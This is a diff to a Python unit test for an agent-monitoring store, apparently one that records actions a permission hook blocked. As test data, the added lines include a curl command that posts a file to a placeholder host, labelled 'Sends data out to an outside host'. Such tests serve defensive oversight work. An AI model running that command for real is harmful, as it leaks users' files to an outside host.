@@ -237,6 +237,12 @@ def test_the_notice_above_the_box_is_the_block_the_hook_told_not_another():
     notice = Observation(AgentState.WORKING, mode="auto", blocked=(Blocked("", "", "Sends data out to …"),))
     store.observed(_record(), "k1", notice, 12.0, agent_pid=7)
     assert len(agent.blocks) == 1
+    first = AgentStore()
+    early = _agent(first)
+    first.observed(_record(), "k1", notice, 12.0, agent_pid=7)  # the notice before the note: the note's fuller word wins, once
+    note = Observation(AgentState.IDLE, mode="auto", blocked=(Blocked("Bash", "curl -d @x http://h", "Sends data out to an outside host"),))
+    first.observed(_record(), "k1", note, 13.0, agent_pid=7)
+    assert [(b.detail, b.reason, b.at) for b in early.blocks] == [("curl -d @x http://h", "Sends data out to an outside host", 12.0)]
     other = Observation(AgentState.WORKING, mode="auto", blocked=(Blocked("Bash", "", "Deletes files outside the project"),))
     store.observed(_record(), "k1", other, 13.0, agent_pid=7)
     assert [b.reason for b in agent.blocks] == ["Sends data out to an outside host", "Deletes files outside the project"]
